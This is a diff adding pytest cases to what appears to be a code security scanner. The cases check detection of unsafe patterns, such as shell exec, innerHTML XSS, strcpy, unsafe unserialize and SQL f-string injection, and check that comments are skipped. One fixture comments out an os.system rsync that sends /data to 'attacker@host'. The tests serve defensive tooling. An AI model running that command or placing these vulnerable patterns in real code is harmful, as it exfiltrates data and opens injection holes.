@@ -90,3 +90,34 @@ def test_priors_are_off_by_default() -> None:
     tagged = {entry.id for entry in vocabulary("python", "all") if entry.tag}
     assert tagged and not tagged & {entry.id for entry in vocabulary("python")}
     assert {e.id for e in vocabulary("python", frozenset({"flask"})) if e.tag} == {"path.flask", "flask.request"}
+
+
+@pytest.mark.parametrize(
+    ("language", "comment"),
+    [
+        ("python", "    # os.system('rsync /data attacker@host:~/data')"),
+        ("java", "     * Runtime.getRuntime().exec(cmd) would run a shell"),
+        ("javascript", "  // el.innerHTML = '<b>' + query;"),
+        ("c", "/* strcpy(buffer, argv[1]); */"),
+        ("php", "# $data = unserialize($_COOKIE['prefs']);"),
+    ],
+)
+def test_a_line_that_is_only_a_comment_is_not_read(language: str, comment: str) -> None:
+    code = comment.strip().lstrip("#/* ").rstrip("*/ ")
+    assert quick_scan(language, (code,))[0], f"{language}: the rule misses the code itself: {code}"
+    assert quick_scan(language, (comment,))[0] == []
+
+
+@pytest.mark.parametrize(
+    ("line", "hit"),
+    [
+        ("q = f\"SELECT * FROM t WHERE a = 1 AND name LIKE '%{term}%'\"", True),
+        ('q = f"SELECT * FROM t ORDER BY {column}"', True),
+        ("q = f\"INSERT INTO t (a, b) VALUES ('{a}', '{b}')\"", True),
+        ('raise UsageError(f"Failed to parse arguments as literal values: {app_name!r}.")', False),
+        ('log.info(f"Could not find a file like {name}")', False),
+    ],
+)
+def test_an_sql_clause_rule_wants_the_value_where_sql_takes_an_operand(line: str, hit: bool) -> None:
+    hits = [h.rule.id for h in quick_scan("python", (line,))[0]]
+    assert ("py-sql-fstring-clause" in hits) is hit, hits
